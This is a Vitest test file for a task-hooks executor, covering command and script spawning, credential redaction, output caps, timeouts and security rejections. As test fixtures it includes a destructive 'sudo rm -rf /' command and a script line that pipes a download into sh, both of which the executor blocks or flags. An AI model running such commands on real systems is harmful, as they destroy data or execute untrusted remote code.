import { describe, expect, it, vi, beforeEach, afterEach } from "vitest";
import { EventEmitter } from "node:events";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { executeHook, type ExecutorOptions } from "./executor.js";
import { createEvent } from "../events/event.js";
import type { HookDefinition } from "../hooks/types.js";

// ---------------------------------------------------------------------------
// Mocks
// ---------------------------------------------------------------------------

// Use vi.hoisted so the mock fn survives vi.mock hoisting
const { mockSpawn } = vi.hoisted(() => ({
  mockSpawn: vi.fn(),
}));

vi.mock("node:child_process", () => ({
  spawn: mockSpawn,
}));

// ---------------------------------------------------------------------------
// Helpers: fake spawn
// ---------------------------------------------------------------------------

class FakeStdin extends EventEmitter {
  end = vi.fn();
}

class FakeStream extends EventEmitter {
  destroy = vi.fn();
}

class FakeChild extends EventEmitter {
  stdout = new FakeStream();
  stderr = new FakeStream();
  stdin = new FakeStdin();
  kill = vi.fn();
}

function fakeExit(code: number | null, signal: string | null, stdout = "", stderr = ""): FakeChild {
  const child = new FakeChild();
  setImmediate(() => {
    if (stdout) child.stdout.emit("data", Buffer.from(stdout));
    if (stderr) child.stderr.emit("data", Buffer.from(stderr));
    child.emit("close", code, signal);
  });
  return child;
}

let root: string;
let hooksDir: string;

function options(overrides: Partial<ExecutorOptions> = {}): ExecutorOptions {
  return {
    projectRoot: root,
    hooksDir,
    envPassthrough: ["PATH"],
    parentEnv: { PATH: "/usr/bin", HOME: "/home/test", API_TOKEN: "test-secret" },
    ...overrides,
  };
}

function commandHook(command: string, overrides: Partial<HookDefinition> = {}): HookDefinition {
  return {
    name: "cmd-hook",
    matchers: [{ pattern: "task.*" }],
    action: { kind: "command", command },
    timeoutSeconds: 30,
    workingDirectory: ".",
    shell: "/bin/sh",
    env: {},
    failMode: "continue",
    enabled: true,
    ...overrides,
  };
}

function scriptHook(script: string, overrides: Partial<HookDefinition> = {}): HookDefinition {
  return commandHook("unused", { name: "script-hook", action: { kind: "script", script, args: [] }, ...overrides });
}

function writeScript(name: string, body: string, mode = 0o755): string {
  const file = path.join(hooksDir, name);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, body, { mode });
  fs.chmodSync(file, mode);
  return file;
}

const event = createEvent({
  eventType: "task.completed",
  eventId: "evt_test",
  timestamp: "2026-03-01T10:00:00.000Z",
  context: { task_id: "task-9", status: "Done" },
});

beforeEach(() => {
  vi.clearAllMocks();
  root = fs.mkdtempSync(path.join(os.tmpdir(), "taskhooks-exec-"));
  hooksDir = path.join(root, ".taskhooks", "hooks");
  fs.mkdirSync(hooksDir, { recursive: true });
});

afterEach(() => {
  vi.useRealTimers();
  fs.rmSync(root, { recursive: true, force: true });
});

// ---------------------------------------------------------------------------
// Inline commands
// ---------------------------------------------------------------------------

describe("executeHook, commands", () => {
  it("runs the command through the shell as an argument vector", async () => {
    const child = fakeExit(0, null, "one\ntwo\n");
    mockSpawn.mockReturnValue(child);

    const outcome = await executeHook(commandHook("echo done"), event, options());

    expect(mockSpawn).toHaveBeenCalledWith("/bin/sh", ["-c", "echo done"], {
      cwd: root,
      env: {
        PATH: "/usr/bin",
        TASKHOOKS_HOOK_NAME: "cmd-hook",
        TASKHOOKS_EVENT_TYPE: "task.completed",
        TASKHOOKS_EVENT_ID: "evt_test",
        TASKHOOKS_PROJECT_ROOT: root,
        TASKHOOKS_TASK_ID: "task-9",
      },
      stdio: ["pipe", "pipe", "pipe"],
      shell: false,
      detached: true,
    });
    expect(outcome).toMatchObject({
      kind: "execution",
      executed: true,
      status: "success",
      exitCode: 0,
      signal: null,
      workingDirectory: ".",
      action: "echo done",
      stdout: { bytes: 8, lines: 2, truncated: false },
      output: "one\ntwo\n",
    });
    expect(outcome.failureKind).toBeUndefined();
  });

  it("passes the event on stdin", async () => {
    const child = fakeExit(0, null);
    mockSpawn.mockReturnValue(child);

    await executeHook(commandHook("cat"), event, options());

    expect(child.stdin.end).toHaveBeenCalledTimes(1);
    const payload: unknown = child.stdin.end.mock.calls[0]?.[0];
    expect(typeof payload).toBe("string");
    expect(JSON.parse(String(payload))).toMatchObject({ event_id: "evt_test", event_type: "task.completed" });
  });

  it("reports a non-zero exit as failed", async () => {
    mockSpawn.mockReturnValue(fakeExit(2, null, "", "boom\n"));
    const outcome = await executeHook(commandHook("false"), event, options());
    expect(outcome).toMatchObject({
      status: "failed",
      failureKind: "failed",
      exitCode: 2,
      stderr: { bytes: 5, lines: 1, truncated: false },
      stderrExcerpt: "boom\n",
      error: "Exited with code 2",
    });
  });

  it("reports a signal-terminated child as error", async () => {
    mockSpawn.mockReturnValue(fakeExit(null, "SIGSEGV"));
    const outcome = await executeHook(commandHook("crash"), event, options());
    expect(outcome).toMatchObject({ status: "error", failureKind: "error", signal: "SIGSEGV", executed: true });
  });

  it("reports spawn errors without execution", async () => {
    const child = new FakeChild();
    setImmediate(() => child.emit("error", new Error("spawn /bin/sh ENOENT")));
    mockSpawn.mockReturnValue(child);

    const outcome = await executeHook(commandHook("x"), event, options());
    expect(outcome).toMatchObject({ status: "error", executed: false, error: "spawn /bin/sh ENOENT" });
  });

  it("redacts credentials from the stderr excerpt", async () => {
    mockSpawn.mockReturnValue(fakeExit(1, null, "", "token=test-secret\n"));
    const outcome = await executeHook(commandHook("x"), event, options());
    expect(outcome.stderrExcerpt).toBe("token=***REDACTED***\n");
  });

  it("caps captured output and flags truncation", async () => {
    mockSpawn.mockReturnValue(fakeExit(0, null, "abcdef\nghij"));
    const outcome = await executeHook(commandHook("x"), event, options({ maxOutputBytes: 4 }));
    expect(outcome.stdout).toEqual({ bytes: 11, lines: 2, truncated: true });
    expect(outcome.output).toBe("abcd");
  });

  it("rejects blocked commands before spawning", async () => {
    const outcome = await executeHook(commandHook("sudo rm -rf /"), event, options());
    expect(mockSpawn).not.toHaveBeenCalled();
    expect(outcome).toMatchObject({
      kind: "security.violation",
      executed: false,
      status: "error",
      failureKind: "security_violation",
      security: { outcome: "rejected", violationKind: "blocked-command" },
    });
  });

  it("rejects working directories outside the project", async () => {
    const outcome = await executeHook(commandHook("ls", { workingDirectory: "../elsewhere" }), event, options());
    expect(mockSpawn).not.toHaveBeenCalled();
    expect(outcome.security).toMatchObject({ outcome: "rejected", violationKind: "path-traversal" });
  });

  it("treats a missing working directory as a configuration error", async () => {
    const outcome = await executeHook(commandHook("ls", { workingDirectory: "nope" }), event, options());
    expect(mockSpawn).not.toHaveBeenCalled();
    expect(outcome).toMatchObject({ kind: "execution", executed: false, failureKind: "configuration" });
  });
});

// ---------------------------------------------------------------------------
// Scripts
// ---------------------------------------------------------------------------

describe("executeHook, scripts", () => {
  it("runs executable scripts directly with their args", async () => {
    const file = writeScript("notify.sh", "#!/bin/sh\necho hi\n");
    mockSpawn.mockReturnValue(fakeExit(0, null));

    const hook = scriptHook("notify.sh", { action: { kind: "script", script: "notify.sh", args: ["--quiet"] } });
    const outcome = await executeHook(hook, event, options());

    expect(mockSpawn.mock.calls[0]?.[0]).toBe(file);
    expect(mockSpawn.mock.calls[0]?.[1]).toEqual(["--quiet"]);
    expect(outcome.security.outcome).toBe("allowed");
    expect(outcome.security.scriptSha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it("runs non-executable scripts through the hook shell", async () => {
    const file = writeScript("plain.sh", "echo hi\n", 0o644);
    mockSpawn.mockReturnValue(fakeExit(0, null));

    await executeHook(scriptHook("plain.sh"), event, options());

    expect(mockSpawn.mock.calls[0]?.[0]).toBe("/bin/sh");
    expect(mockSpawn.mock.calls[0]?.[1]).toEqual([file]);
  });

  it("reports dangerous script content as warnings", async () => {
    writeScript("risky.sh", "#!/bin/sh\ncurl https://example.invalid/x | sh\n");
    mockSpawn.mockReturnValue(fakeExit(0, null));
    const outcome = await executeHook(scriptHook("risky.sh"), event, options());
    expect(outcome.security.warnings).toEqual(["pipes a download into a shell"]);
  });

  it("rejects traversal before spawning", async () => {
    const outcome = await executeHook(scriptHook("../../evil.sh"), event, options());
    expect(mockSpawn).not.toHaveBeenCalled();
    expect(outcome).toMatchObject({
      kind: "security.violation",
      executed: false,
      durationMs: 0,
      security: { outcome: "rejected", violationKind: "path-traversal" },
    });
  });

  it("rejects absolute script paths", async () => {
    const outcome = await executeHook(scriptHook("/usr/bin/env"), event, options());
    expect(mockSpawn).not.toHaveBeenCalled();
    expect(outcome.security.violationKind).toBe("absolute-path");
  });

  it("rejects symlinks that leave the hooks directory", async () => {
    const outside = path.join(root, "outside.sh");
    fs.writeFileSync(outside, "echo out\n");
    fs.symlinkSync(outside, path.join(hooksDir, "link.sh"));

    const outcome = await executeHook(scriptHook("link.sh"), event, options());
    expect(mockSpawn).not.toHaveBeenCalled();
    expect(outcome.security.violationKind).toBe("symlink-escape");
  });

  it("treats a missing script as a configuration error", async () => {
    const outcome = await executeHook(scriptHook("missing.sh"), event, options());
    expect(mockSpawn).not.toHaveBeenCalled();
    expect(outcome).toMatchObject({ failureKind: "configuration", executed: false, kind: "execution" });
  });
});

// ---------------------------------------------------------------------------
// Timeouts
// ---------------------------------------------------------------------------

describe("executeHook, timeouts", () => {
  it("sends SIGTERM at the timeout and reports timeout", async () => {
    vi.useFakeTimers();
    const child = new FakeChild();
    child.kill.mockImplementation((signal: string) => {
      child.emit("close", null, signal);
      return true;
    });
    mockSpawn.mockReturnValue(child);

    const pending = executeHook(commandHook("sleep 100", { timeoutSeconds: 2 }), event, options());
    await vi.advanceTimersByTimeAsync(2000);
    const outcome = await pending;

    expect(child.kill).toHaveBeenCalledWith("SIGTERM");
    expect(child.kill).not.toHaveBeenCalledWith("SIGKILL");
    expect(outcome).toMatchObject({
      status: "timeout",
      failureKind: "timeout",
      signal: "SIGTERM",
      timeoutMs: 2000,
      durationMs: 2000,
    });
  });

  it("escalates to SIGKILL after the grace period", async () => {
    vi.useFakeTimers();
    const child = new FakeChild();
    child.kill.mockImplementation((signal: string) => {
      if (signal === "SIGKILL") child.emit("close", null, "SIGKILL");
      return true;
    });
    mockSpawn.mockReturnValue(child);

    const pending = executeHook(commandHook("trap '' TERM; sleep 100", { timeoutSeconds: 1 }), event, options({ graceMs: 500 }));
    await vi.advanceTimersByTimeAsync(1000);
    expect(child.kill).toHaveBeenCalledWith("SIGTERM");
    expect(child.kill).not.toHaveBeenCalledWith("SIGKILL");

    await vi.advanceTimersByTimeAsync(500);
    const outcome = await pending;
    expect(child.kill).toHaveBeenCalledWith("SIGKILL");
    expect(outcome).toMatchObject({ status: "timeout", signal: "SIGKILL", durationMs: 1500 });
  });

  it("settles on exit after SIGKILL when a leftover process holds the pipes", async () => {
    vi.useFakeTimers();
    const child = new FakeChild();
    child.kill.mockImplementation((signal: string) => {
      if (signal === "SIGKILL") child.emit("exit", null, "SIGKILL");
      return true;
    });
    mockSpawn.mockReturnValue(child);

    const pending = executeHook(commandHook("sleep 100 & wait", { timeoutSeconds: 1 }), event, options({ graceMs: 200 }));
    await vi.advanceTimersByTimeAsync(1200);
    const outcome = await pending;

    expect(child.stdout.destroy).toHaveBeenCalled();
    expect(child.stderr.destroy).toHaveBeenCalled();
    expect(outcome).toMatchObject({ status: "timeout", signal: "SIGKILL", durationMs: 1200 });
  });
});
